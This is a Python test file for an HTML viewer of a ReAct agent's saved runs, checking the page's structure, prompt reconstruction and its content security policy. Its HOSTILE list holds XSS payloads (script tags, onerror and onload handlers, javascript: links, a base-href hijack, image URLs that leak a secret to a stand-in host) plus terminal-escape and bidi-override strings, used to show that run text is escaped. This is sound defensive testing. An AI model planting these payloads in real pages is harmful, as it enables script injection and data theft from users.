"""The page of saved runs, by what stands where in it."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Sequence
from dataclasses import replace
from itertools import pairwise
from pathlib import Path

import pytest
from cli_runs import ANSWER, Home
from hypothesis import given
from hypothesis import settings as examples
from hypothesis import strategies as st
from test_transcript import saved, transcripts
from tree import Node, parse

from react_agent.budget import Sent, budget_of_run
from react_agent.parsers.step import Act
from react_agent.prompt import Prompt
from react_agent.transcript import Saved, dumps, loads, prompt_hash, read
from react_agent.types import Observation, Part, Transcript, Turn, Usage
from react_agent.viewer import Run, open_run, page, prompt_parts
from react_agent.viewer.extract import runs_inside
from react_agent.viewer.run import run_of
from react_agent.viewer.steps import ELEMENTS, cut_words
from react_agent.visible import visible

ROOT = Path(__file__).parent.parent
SAVED = sorted((ROOT / "transcripts").glob("*.yaml"))
HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script><!--",
    '"><img src=x onerror=alert(3)>',
    "<img src='http://127.0.0.1:9/p?leak=SECRET'>",
    "![x](http://127.0.0.1:9/p?leak=SECRET) [click](javascript:alert(4))",
    "</pre></div></main><iframe srcdoc='<script>alert(5)</script>'></iframe>",
    "<a href='javascript:alert(6)' download=x>save</a> &lt;b&gt; &#60;b&#62;",
    "<style>*{display:none}</style><base href='http://127.0.0.1:9/'>",
    "\x1b]52;c;aGk=\x07 \x1b[2J \x9b31m \x00 \x08\x08 a\rb \u202egnp.exe \u2066x\u2069",
    "]]><svg onload=alert(7)><math><mi//xlink:href='data:x,<script>alert(8)</script>'>",
)


def shown(*paths: Path) -> Node:
    return parse(page([open_run(path) for path in paths]))


def facts(tree: Node) -> dict[str, str]:
    rows = tree.one("dl", "facts").all("div")
    return {row.one("dt").text: row.one("dd").text for row in rows}


def made(transcript: Transcript) -> Run:
    """A run as it is after it was saved and read; its prompts are unknown."""
    source = dumps(saved(transcript)).encode()
    return run_of(loads(source), source, "run.yaml")


# ---- what stands in it


@pytest.mark.parametrize("path", SAVED, ids=lambda path: path.stem)
def test_the_head_tells_the_run(path: Path) -> None:
    tree, run = shown(path), read(path).transcript
    assert tree.one("h1").text == run.question
    assert run.outcome is not None
    assert tree.one("div", "result").one("pre").text == run.outcome.answer
    usages = [turn.completion.usage for turn in run.turns]
    assert facts(tree) | {"Time": ""} == {
        "Outcome": "Answered",
        "Model": "local:qwen2.5-coder-0.5b-instruct",
        "Dialect": run.dialect,
        "Steps": str(len(run.turns)),
        "Tokens in": f"{sum(u.prompt or 0 for u in usages):,}",
        "of them cached": f"{sum(u.cached or 0 for u in usages):,}",
        "Tokens out": f"{sum(u.completion or 0 for u in usages):,}",
        "Time": "",
    }
    assert facts(tree)["Time"] == f"{read(path).measured['seconds']:,.1f} s"


@pytest.mark.parametrize("path", SAVED, ids=lambda path: path.stem)
def test_each_step_has_the_reply_its_reading_and_what_was_written_back(path: Path) -> None:
    run = open_run(path)
    sections = shown(path).all("article", "step")
    assert len(sections) == len(run.steps)
    for section, step in zip(sections, run.steps, strict=True):
        text, turn = step.turn.completion.text, step.turn
        written, reading = section.one("div", "reply"), section.one("div", "read")
        assert written.one("pre").text == visible(text)
        assert step.told is not None
        assert step.is_read_as_saved
        stretches = [(each.name, each.text) for each in written.one("pre") if each.name != "pre"]
        kinds = [(ELEMENTS[kind], text[at:to]) for kind, (at, to) in step.told.spans if kind != "other"]
        assert stretches == kinds
        if isinstance(turn.step, Act):
            codes = [
                child.text for child in reading.children if isinstance(child, Node) and child.name == "code"
            ]
            assert codes == [action.tool for action in turn.step.actions]
            read_back = [json.loads(node.text) for node in reading.all("pre")]
            assert read_back == [action.arguments for action in turn.step.actions]
        repairs = [item.all("code")[0].text for item in reading.all("li")]
        assert repairs == [repair.kind for repair in turn.step.repairs]
        assert [seen.one("pre").text for seen in section.all("div", "seen")] == [
            observation.text for observation in turn.observations
        ]


def test_an_invented_observation_is_struck_and_named() -> None:
    step = shown(ROOT / "transcripts" / "forged-observation.yaml").all("article", "step")[0]
    assert step.one("del").text.strip() == "Observation:"
    assert step.one("li").text.startswith("invented_observation: An observation that the model wrote itself")
    assert step.one("div", "seen").one("h3").text == "Observation by the tool calculator"


@pytest.mark.parametrize("path", SAVED, ids=lambda path: path.stem)
def test_the_new_parts_make_the_prompts_that_were_sent(path: Path) -> None:
    run = open_run(path)
    transcript, prompt = run.saved.transcript, Prompt.load(run.saved.transcript.dialect)
    shown_prompts = prompts_in(shown(path))
    assert len(shown_prompts) == len(run.steps)
    for count, whole in enumerate(shown_prompts):
        parts = prompt.render(transcript.question, transcript.specs, transcript.turns[:count])
        assert prompt_parts(run.steps[: count + 1]) == parts
        assert whole == "".join(part.text for part in parts)


def prompts_in(tree: Node) -> list[str]:
    """The prompts of a page as its script puts them together."""
    whole: list[str] = []
    found, sections = [], tree.all("article", "step")
    for place, section in enumerate(sections):
        details = section.one("details", "prompt")
        whole[int(details.attributes.get("data-kept", len(whole))) :] = []
        whole += [part_of(part, sections, place) for part in details.one("pre").children]
        found.append("".join(whole))
    return found


def part_of(part: Node | str, sections: Sequence[Node], place: int) -> str:
    """A part of the prompt in one of these sections; what is empty stands in another one, or inside this."""
    if isinstance(part, str):
        return part
    if part.children or not {"model", "tool"} & set(part.classes):
        return "".join(part_of(child, sections, place) for child in part.children)
    given = part.attributes
    far = [each for each in sections if each.attributes["id"] == f"r1-{given.get('data-step')}"]
    boxes = (far or [sections[place - 1]])[0].all("div", "reply" if "model" in part.classes else "seen")
    text = boxes[int(given.get("data-nth", 0))].one("pre").text.encode("utf-16-le") if boxes else b""
    return text[: int(given.get("data-end", len(text))) * 2].decode("utf-16-le")


def test_a_prompt_that_is_not_the_one_that_was_sent_is_not_shown(tmp_path: Path) -> None:
    text = (ROOT / "transcripts" / "percentage.yaml").read_text(encoding="utf-8")
    path = tmp_path / "other.yaml"
    path.write_text(re.sub(r"(?<=sha256:)[0-9a-f]{8}", "00000000", text, count=1), encoding="utf-8")
    first = shown(path).all("article", "step")[0]
    assert "Today's template makes another prompt" in first.all("p", "warning")[0].text
    assert first.one("details").one("small").text == "as it was saved, without its parts"
    assert first.one("details").one("pre").text == open_run(path).saved.transcript.opening
    figure = shown(path).one("figure", "strip")
    assert figure.one("path", "whole").attributes["d"].count("M") == 1
    whole = "".join(part.text for part in prompt_parts(open_run(path).steps))
    assert prompts_in(shown(path))[1] == whole  # with nothing shown before, all of it is new


def test_a_reply_that_is_read_in_another_way_today_says_so() -> None:
    run = read(ROOT / "transcripts" / "percentage.yaml")
    turn = run.transcript.turns[0]
    other = replace(turn, step=replace(turn.step, thought="Something else."))
    changed = replace(run.transcript, turns=(other, *run.transcript.turns[1:]))
    first, second = parse(page([made(changed)])).all("article", "step")
    assert "reads this reply in another way" in first.text
    assert "reads this reply in another way" not in second.text


def shortening_run() -> Saved:
    """A run whose long results were shortened in its prompts, more than once."""
    saved_run = read(ROOT / "transcripts" / "forged-observation.yaml")
    call, answer = saved_run.transcript.turns
    limits = {"max_steps": 8, "context": 3000, "reply": 512, "shortening": 1}
    call = replace(call, completion=replace(call.completion, usage=Usage()))
    turns = [
        replace(call, observations=(Observation(f"{number} " + "word " * 500, "tool", "calculator"),))
        for number in range(8)
    ]
    settings = {**saved_run.transcript.settings, "limits": limits}
    head = replace(saved_run.transcript, turns=(*turns, answer), settings=settings)
    sent = list(prompts_of(head))
    assert len({each.boundary for each in sent}) > 2
    hashes = tuple(prompt_hash(each.parts) for each in sent)
    return replace(saved_run, transcript=head, prompts=hashes, numbers=tuple(range(1, 10)))


def test_texts_that_stand_in_the_page_are_put_into_prompts_that_were_shortened_since() -> None:
    saved_run = shortening_run()
    tree = parse(page([run_of(saved_run, dumps(saved_run).encode(), "run.yaml")]))
    sent = ["".join(part.text for part in each.parts) for each in prompts_of(saved_run.transcript)]
    assert prompts_in(tree) == sent
    assert any("data-step" in node.attributes for node in tree.all("i"))


odd_texts = st.text(st.sampled_from('ab 7\n\t<&"\u6f22\U0001f600\x07\r\u202e\ud800'), max_size=8) | st.text(
    max_size=30
)


@given(st.lists(st.tuples(odd_texts, st.lists(odd_texts, max_size=3)), max_size=4))
@examples(max_examples=30)
def test_whatever_was_written_the_prompts_are_those_that_were_sent(
    written: list[tuple[str, list[str]]],
) -> None:
    head = read(ROOT / "transcripts" / "forged-observation.yaml").transcript
    call, answer = head.turns
    turns = [
        replace(
            call,
            completion=replace(call.completion, text=text),
            step=replace(call.step, said=text[: len(text) * 2 // 3]),
            observations=tuple(Observation(each, "tool", "calculator") for each in seen),
        )
        for text, seen in written
    ]
    saved_run = with_prompts((*turns, answer))
    tree = parse(page([run_of(saved_run, b"", "run.yaml")]))
    sent = prompts_of(saved_run.transcript)
    assert prompts_in(tree) == [
        "".join(visible_surrogates(part.text) for part in each.parts) for each in sent
    ]


def prompts_of(run: Transcript) -> Iterator[Sent]:
    sent = budget_of_run(run, Prompt.load(run.dialect)).start()
    for turn in run.turns:
        yield sent
        sent = sent.then(turn)


def test_a_prompt_whose_beginning_changed_is_marked_from_there_on() -> None:
    saved_run = shortening_run()
    run = run_of(saved_run, dumps(saved_run).encode(), "run.yaml")
    whole: list[tuple[Part, ...]] = []
    for step, sent in zip(run.steps, prompts_of(saved_run.transcript), strict=True):
        assert step.asked.problem == ""
        whole.append(prompt_parts(run.steps[: step.number]))
        assert whole[-1] == sent.parts
        if step.number > 1:
            assert whole[-1][: step.asked.kept] == whole[-2][: step.asked.kept]
            assert step.asked.kept_chars == sum(len(part.text) for part in whole[-1][: step.asked.kept])
    assert any(step.asked.kept < len(before) for step, before in zip(run.steps[1:], whole, strict=False))


def test_a_later_run_of_a_session_has_the_earlier_question_in_its_prompt(tmp_path: Path) -> None:
    home = Home(tmp_path)
    model = home.script(" I know.\nFinal Answer: one", " I know.\nFinal Answer: two")
    home.react("chat", "-m", model, input="What is first?\nWhat is second?\n")
    first, second = home.runs
    assert "What is first?" in shown(second).one("details", "prompt").text
    home.write("alone.yaml", second.read_bytes())
    alone = shown(tmp_path / "alone.yaml")
    assert first.name in alone.all("p", "warning")[0].text


def test_a_run_of_another_program_says_that_its_prompts_are_not_ours(tmp_path: Path) -> None:
    home = Home(tmp_path)
    messages = [{"role": "user", "content": "How late?"}, {"role": "assistant", "content": "Late."}]
    home.write("chat.json", json.dumps({"messages": messages}))
    assert home.react("import", "chat.json", "-o", "runs/").exit_code == 0
    (path,) = (tmp_path / "runs").glob("*.yaml")
    tree = shown(path)
    assert "Another program asked the model" in tree.one("article", "step").one("p", "warning").text
    assert not tree.all("details", "prompt")
    assert tree.one("div", "reply").one("pre").text.strip() == "Final Answer: Late."
    assert facts(tree)["Taken from"] == "openai"


def test_a_forked_run_tells_where_it_goes_on_from(tmp_path: Path) -> None:
    home = Home(tmp_path)
    home.write("a.yaml", (ROOT / "transcripts" / "percentage.yaml").read_bytes())
    done = home.react("ask", "--from", "a.yaml#2", "-m", home.script(ANSWER), "--save", "b.yaml")
    assert done.exit_code == 0, done.stderr
    tree = shown(tmp_path / "b.yaml")
    assert facts(tree)["Taken from"] == "a.yaml#2"
    assert len(tree.all("details", "prompt")) == 2


def test_a_damaged_run_tells_what_is_missing(tmp_path: Path) -> None:
    text = (ROOT / "transcripts" / "recovered.yaml").read_bytes()
    path = tmp_path / "torn.yaml"
    path.write_bytes(text[: text.rindex(b"finish_reason")])
    tree = shown(path)
    assert len(tree.all("article", "step")) == 2
    assert "was not written to its end" in tree.all("p", "warning")[0].text
    assert "No outcome" in tree.one("div", "result").text


def test_a_long_result_says_what_was_cut(tmp_path: Path) -> None:
    home = Home(tmp_path)
    tool = home.tool("log", 'return "0123456789" * 4000')
    model = home.script("I look.\nAction: log\nAction Input: {}", ANSWER)
    more = ("--tools", tool, "--save", "r.yaml")
    assert home.react("ask", "?", "-m", model, *more).exit_code == 0
    seen = shown(tmp_path / "r.yaml").one("div", "seen")
    assert seen.one("h3").text.endswith("; cut from 40 kB to 4 kB")


def test_nothing_is_said_of_a_result_that_is_whole() -> None:
    assert cut_words(Observation("409.5", "tool", "calculator")) == ""


def test_the_strip_has_a_column_for_each_step_with_both_parts_of_its_prompt() -> None:
    figure = shown(ROOT / "transcripts" / "recovered.yaml").one("figure", "strip")
    boxes = {kind: figure.one("path", kind).attributes["d"].count("M") for kind in ("time", "kept", "new")}
    assert boxes == {"time": 3, "kept": 2, "new": 3}
    assert figure.one("svg").attributes["aria-label"] == "Time and prompt of each of the 3 steps"


def test_ids_are_given_once_and_every_link_leads_to_one() -> None:
    tree = shown(*SAVED)
    ids = [node.attributes["id"] for node in tree if "id" in node.attributes]
    assert len(ids) == len(set(ids))
    targets = [node.attributes["href"] for node in tree.all("a")]
    assert {target[1:] for target in targets if target.startswith("#")} <= set(ids)
    assert all(target.startswith(("#", "data:application/gzip;base64,")) for target in targets)


def test_headings_go_down_by_one() -> None:
    for tree in (shown(SAVED[0]), shown(*SAVED)):
        levels = [int(node.name[1]) for node in tree if re.fullmatch("h[1-6]", node.name)]
        assert levels[0] == 1
        assert levels.count(1) == 1
        assert all(after <= before + 1 for before, after in pairwise(levels))


def test_several_runs_begin_with_a_table_of_them() -> None:
    tree = shown(*SAVED)
    assert [row.attributes["data-run"] for row in tree.one("tbody").all("tr")] == [
        details.attributes["id"] for details in tree.all("details", "run")
    ]
    assert tree.one("h1").text == f"{len(SAVED)} runs"
    assert [row.all("td")[-1].text for row in tree.one("tbody").all("tr")] == [path.name for path in SAVED]


# ---- what must never be in it


def policy(tree: Node) -> str:
    (found,) = [n for n in tree.all("meta") if n.attributes.get("http-equiv") == "Content-Security-Policy"]
    return found.attributes["content"]


def hostile(payload: str) -> Transcript:
    """A run with a payload in every text that a run has."""
    run = read(ROOT / "transcripts" / "forged-observation.yaml").transcript
    call, answer = run.turns
    assert isinstance(call.step, Act)
    action = replace(call.step.actions[0], tool=payload, arguments={payload: [payload]})
    repair = replace(call.step.repairs[0], kind=payload, note=payload)
    step = replace(call.step, thought=payload, actions=(action,), repairs=(repair,))
    kinds = ("tool", "error", "complaint", "note")
    seen = tuple(Observation(payload, kind, payload) for kind in kinds)  # type: ignore[arg-type]
    text = f"Thought: {payload}\nAction: {payload}\nAction Input: {payload}\nObservation: {payload}"
    return replace(
        run,
        question=payload,
        dialect=payload,
        opening=payload,
        specs=tuple(replace(spec, name=payload, description=payload) for spec in run.specs),
        turns=(
            replace(call, completion=replace(call.completion, text=text), step=step, observations=seen),
            replace(answer, step=replace(answer.step, answer=payload)),
        ),
        outcome=replace(run.outcome, answer=payload, detail=payload) if run.outcome else None,
        settings={"endpoint": {"kind": payload, "model": payload}},
    )


@pytest.mark.parametrize("payload", HOSTILE)
def test_s61_s62_s63_text_of_a_run_stays_text(payload: str) -> None:
    plain = parse(page([made(hostile("harmless"))]))
    tree = parse(page([replace(made(hostile(payload)), name=payload)]))
    own = {"u"}
    names = [node.name for node in tree if not own & set(node.classes)]
    assert set(names) == {node.name for node in plain}
    assert names.count("script") == names.count("style") == 1
    assert tree.one("script").text == plain.one("script").text
    assert policy(tree) == policy(plain)
    for node in tree:
        assert not any(
            name.startswith("on") or name in ("style", "src", "srcdoc") for name in node.attributes
        )
        assert node.attributes.get("href", "#").startswith(("#", "data:application/gzip;base64,"))
    assert tree.one("h1").text == visible(payload)
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page([made(hostile(payload))])
    )


def test_the_policy_lets_nothing_run_but_the_script_of_the_page() -> None:
    said = policy(shown(SAVED[0]))
    assert re.fullmatch(
        r"default-src 'none'; style-src 'sha256-[\w+/=]+'; script-src 'sha256-[\w+/=]+'; "
        "base-uri 'none'; form-action 'none'",
        said,
    )


@given(transcripts)
@examples(max_examples=60)
def test_any_run_makes_a_page(transcript: Transcript) -> None:
    run = made(transcript)
    tree = parse(page([run]))
    assert tree.one("h1").text == (visible_surrogates(transcript.question) or "(empty)")
    assert len(tree.all("article", "step")) == len(transcript.turns)
    assert runs_inside(page([run])) == (("run.yaml", run.source),)


def visible_surrogates(text: str) -> str:
    return visible(text.replace("\r\n", "\n").encode("utf-8", "backslashreplace").decode())


# ---- runs that were made up


def long_run(steps: int) -> Saved:
    """A run of so many steps, all but the last one the same."""
    call, answer = read(ROOT / "transcripts" / "forged-observation.yaml").transcript.turns
    return with_prompts((*[call] * (steps - 1), answer))


def with_prompts(turns: Sequence[Turn]) -> Saved:
    """A run of these turns, with the prompts that its template makes for a model that reads very much."""
    run = read(ROOT / "transcripts" / "forged-observation.yaml")
    limits = {"max_steps": len(turns), "context": 1_000_000, "reply": 512, "shortening": 1}
    settings = {**run.transcript.settings, "limits": limits}
    head = replace(run.transcript, turns=tuple(turns), settings=settings)
    hashes = tuple(prompt_hash(each.parts) for each in prompts_of(head))
    return replace(run, transcript=head, prompts=hashes, numbers=tuple(range(1, len(turns) + 1)))
